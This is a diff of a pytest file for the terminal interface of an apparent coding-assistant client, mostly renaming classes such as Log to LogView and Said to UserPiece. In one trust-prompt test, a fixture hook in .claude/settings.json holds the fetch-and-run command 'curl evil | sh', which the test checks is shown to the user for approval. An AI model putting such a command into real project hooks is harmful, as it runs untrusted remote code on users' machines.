@@ -11,12 +11,12 @@ from pathlib import Path
 import pytest
 
 from reverie.apps.tui.commands import COMMANDS
-from reverie.apps.tui.log import Log
+from reverie.apps.tui.log import LogView
 from reverie.apps.tui.picker import Picker
-from reverie.apps.tui.pieces import Said
-from reverie.context.receipt import Fate, Line, Receipt, Sort
+from reverie.apps.tui.pieces import UserPiece
+from reverie.context.receipt import Fate, Receipt, ReceiptLine, Sort
 from reverie.errors import UserMistake
-from reverie.files.trust import Part
+from reverie.files.trust import TrustPart
 from reverie.messages.entries import AssistantEntry, Entry, Envelope, UserEntry
 from reverie.messages.listing import Glance
 from reverie.models.ports import TextDelta
@@ -70,7 +70,7 @@ async def test_every_promised_command_is_in_the_help(sit: MakeTable) -> None:
 async def test_every_command_answers_something_in_an_empty_session(sit: MakeTable, name: str) -> None:
     async with at(sit()) as seat:
         await seat.enter(f"/{name}")
-        await seat.until(lambda: name == "clear" or any(not isinstance(piece, Said) for piece in seat.log.pieces))
+        await seat.until(lambda: name == "clear" or any(not isinstance(piece, UserPiece) for piece in seat.log.pieces))
         assert "✗" not in seat.log.plain
 
 
@@ -109,12 +109,12 @@ async def test_what_came_with_the_project_is_asked_about_at_the_start(
     sit: MakeTable, key: str, kept: list[str]
 ) -> None:
     table = sit()
-    table.conversation.waiting_for_trust = (Part("hooks", ".claude/settings.json", "curl evil | sh"),)
+    table.conversation.waiting_for_trust = (TrustPart("hooks", ".claude/settings.json", "curl evil | sh"),)
     app = table.chat()
     async with app.run_test() as pilot:
         seat = Seat(app, pilot)
         await seat.until(lambda: isinstance(app.screen, Picker))
-        assert "hooks in .claude/settings.json: curl evil | sh" in seat.app.screen_stack[0].query_one(Log).plain
+        assert "hooks in .claude/settings.json: curl evil | sh" in seat.app.screen_stack[0].query_one(LogView).plain
         await seat.type(key)
         await seat.press("enter")
         await seat.until(lambda: not isinstance(app.screen, Picker))
@@ -149,7 +149,10 @@ async def test_context_draws_what_fills_the_window(sit: MakeTable) -> None:
 @requirement("tui:commands:table")
 async def test_compacting_shows_a_receipt_that_unfolds(sit: MakeTable) -> None:
     table = sit()
-    lines = (Line(Sort.REQUEST, Fate.KEPT, "fix the importer"), Line(Sort.FILE, Fate.BACK, "src/importer.py"))
+    lines = (
+        ReceiptLine(Sort.REQUEST, Fate.KEPT, "fix the importer"),
+        ReceiptLine(Sort.FILE, Fate.BACK, "src/importer.py"),
+    )
     table.conversation.receipt = Receipt(
         "full compaction", "embedded", pre_tokens=90_000, post_tokens=12_000, lines=lines
     )
@@ -338,7 +341,7 @@ async def test_exit_closes_the_conversation(sit: MakeTable) -> None:
     async with at(table) as seat:
         await seat.enter("/exit")
         await seat.until(lambda: table.conversation.done[-1] == "close")
-        assert Said("exit", "/") in seat.log.pieces
+        assert UserPiece("exit", "/") in seat.log.pieces
 
 
 @requirement("tui:commands:table")
